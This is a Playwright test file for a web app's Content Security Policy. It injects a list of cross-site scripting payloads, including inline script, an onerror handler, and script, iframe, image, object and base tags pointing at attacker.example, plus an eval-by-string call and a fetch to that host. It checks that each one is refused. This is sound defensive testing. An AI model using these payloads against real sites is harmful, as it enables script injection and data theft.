import { routes } from '@tablee/domain/routes'
import { beSignedIn } from '../support/be-signed-in.ts'
import { createPerson } from '../support/person.ts'
import { expect, type Page, test } from '../support/test.ts'

/** Injection attempts, each with the directive that blocks it. `window.stolen` is set if one of them runs. */
const injections = [
  ['script-src', '<script>window.stolen = true</script>'],
  ['script-src', '<img src="/nowhere.png" onerror="window.stolen = true">'],
  ['script-src', '<script src="https://attacker.example/steal.js"></script>'],
  ['frame-src', '<iframe src="https://attacker.example/"></iframe>'],
  ['img-src', '<img src="https://attacker.example/?seen">'],
  ['object-src', '<object data="https://attacker.example/x.swf"></object>'],
  ['base-uri', '<base href="https://attacker.example/">'],
] as const

/** Inserts markup into the page; returns what removes it again. */
async function inject(page: Page, markup: string): Promise<() => Promise<void>> {
  const place = await page.evaluateHandle((markup) => {
    // innerHTML would not run script elements in any case.
    const place = document.createElement('div')
    place.append(document.createRange().createContextualFragment(markup))
    document.body.append(place)
    return place
  }, markup)
  return () => place.evaluate((element) => element.remove())
}

test('injected markup has no effect, on a public page and in the app', async ({ page, refused }) => {
  for (const path of [routes.home, routes.thursdaySelection]) {
    if (path !== routes.home) await beSignedIn(page, await createPerson())
    await page.goto(path)
    await expect(page.getByRole('heading', { level: 1 })).not.toHaveText('Tablée')
    for (const [directive, markup] of injections) {
      const remove = await inject(page, markup)
      await expect.poll(() => refused.join('\n'), markup).toMatch(new RegExp(`^${directive}`, 'm'))
      await remove()
      refused.length = 0
    }
    expect(await page.evaluate(() => 'stolen' in window)).toBe(false)
    // While a base element is in the page, each URL resolution reports it again.
    refused.length = 0
  }
})

test('a text does not become a program, and an address that the policy does not name is asked nothing', async ({
  page,
  refused,
}) => {
  await page.goto(routes.home)
  await page.evaluate(() => setTimeout('window.stolen = true'))
  await expect.poll(() => refused, 'a text that is evaluated').toHaveLength(1)
  const sent = page.evaluate(() => fetch('https://attacker.example/', { mode: 'no-cors' }))
  await expect(sent).rejects.toThrow()
  await expect.poll(() => refused, 'a request to another site').toHaveLength(2)
  expect(await page.evaluate(() => 'stolen' in window)).toBe(false)
  refused.length = 0
})
